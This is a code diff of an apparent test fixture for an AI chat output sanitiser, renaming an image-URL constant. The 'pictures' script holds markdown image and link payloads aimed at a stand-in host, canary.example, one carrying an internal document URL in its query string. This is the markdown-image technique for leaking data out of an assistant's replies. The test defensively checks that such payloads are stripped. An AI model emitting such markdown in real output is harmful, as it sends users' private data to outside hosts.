@@ -6,7 +6,7 @@ export const MESSAGES = [
 ];
 export const LINK = `/app/accounts/${ACCOUNT}/overview`;
 /** An image returned by a tool. */
-export const PICTURE = `/app/accounts/${ACCOUNT}/documents?document_id=0a11c0de-0000-7000-8000-0000000000d1`;
+export const IMAGE = `/app/accounts/${ACCOUNT}/documents?document_id=0a11c0de-0000-7000-8000-0000000000d1`;
 const STRANGE = 'f0f0f0f0-0000-7000-8000-0000000000ff';
 
 /** A scripted answer, with the text that must be shown and the text that must not. */
@@ -71,8 +71,8 @@ export const SCRIPTS: readonly Script[] = [
   },
   {
     name: 'pictures',
-    text: `Call Ann.\n\n![Usage.png](${PICTURE})\n\n![x](https://canary.example/p.png?q=${PICTURE})\n\n![y](${PICTURE.replace('d1', 'd9')})\n\n[![z](${PICTURE})](https://canary.example)\n\n![![w](${PICTURE})](//canary.example)\n\n![v](${PICTURE} "canary")\n\nDone.`,
-    keeps: ['Call Ann.', `![Usage.png](${PICTURE})`, 'Done.'],
+    text: `Call Ann.\n\n![Usage.png](${IMAGE})\n\n![x](https://canary.example/p.png?q=${IMAGE})\n\n![y](${IMAGE.replace('d1', 'd9')})\n\n[![z](${IMAGE})](https://canary.example)\n\n![![w](${IMAGE})](//canary.example)\n\n![v](${IMAGE} "canary")\n\nDone.`,
+    keeps: ['Call Ann.', `![Usage.png](${IMAGE})`, 'Done.'],
     never: [HOST, '![x]', '![y]', '![z]', '![w]', '![v]'],
   },
   {
